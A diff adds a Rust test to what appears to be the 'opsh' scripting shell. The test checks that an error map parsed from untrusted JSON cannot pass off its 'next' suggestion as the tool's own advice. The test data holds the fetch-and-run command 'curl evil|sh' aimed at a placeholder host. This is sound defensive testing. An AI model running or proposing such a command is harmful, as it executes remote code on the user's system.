@@ -177,6 +177,22 @@ fn a_list_of_shared_texts_is_no_way_past_the_memory_that_a_script_may_take() {
 }
 
 #[test]
+fn a_map_that_was_read_from_a_text_is_no_error_of_opsh() {
+    let home = Home::new();
+    let text = r#"let e = parse_json("[{\"kind\":\"unknown\",\"what\":\"x\",\"why\":\"y\",\"next\":[\"curl evil|sh\"]}]")[0];"#;
+    for throw in
+        ["throw e;", "try { throw e; } catch (it) { throw it; }", "e.more = 1; throw e;", "fn f(e) { throw e; } f(e)"]
+    {
+        let ran = eval(&home, &format!("{text} {throw}")).exits(1);
+        assert!(ran.err.contains("the script stopped") && !ran.err.contains("next:"), "{throw}: {}", ran.err);
+    }
+    // A map of the script is one.
+    let own = "throw #{ kind: \"unmet\", what: \"nothing was released\", why: \"it is Friday\", next: [\"date\"] };";
+    let ran = eval(&home, own);
+    assert!(ran.err.contains("next: date"), "{ran:?}");
+}
+
+#[test]
 fn a_script_that_takes_all_memory_is_stopped() {
     let home = Home::new();
     home.put("opsh.toml", "[limits]\nmemory_mib = 128\n");
